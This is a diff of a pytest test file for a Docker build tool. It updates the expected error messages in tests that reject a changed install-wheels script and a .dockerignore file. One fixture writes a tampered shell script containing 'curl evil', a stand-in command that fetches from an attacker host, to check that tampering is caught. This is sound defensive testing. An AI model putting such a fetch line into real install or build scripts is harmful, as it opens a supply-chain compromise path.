@@ -195,7 +195,7 @@ def test_only_the_secrets_of_the_installer_may_be_mounted(context: Path) -> None
 
 def test_an_install_script_that_was_changed_is_refused(context: Path) -> None:
     (context / "common/install-wheels").write_text("#!/bin/sh\ncurl evil\n")
-    with pytest.raises(DockerfileError, match="is not the install-wheels script that this buildctl knows"):
+    with pytest.raises(DockerfileError, match="is not this buildctl's install-wheels script"):
         plan(HEAD, context)
 
 
@@ -207,5 +207,5 @@ def test_only_exact_pins_can_be_installed(context: Path, pin: str) -> None:
 
 def test_a_dockerignore_is_refused_since_it_would_be_ignored(context: Path) -> None:
     (context / ".dockerignore").write_text("x\n")
-    with pytest.raises(DockerfileError, match="does not read it"):
+    with pytest.raises(DockerfileError, match="not supported by the assemble engine"):
         plan(HEAD, context)
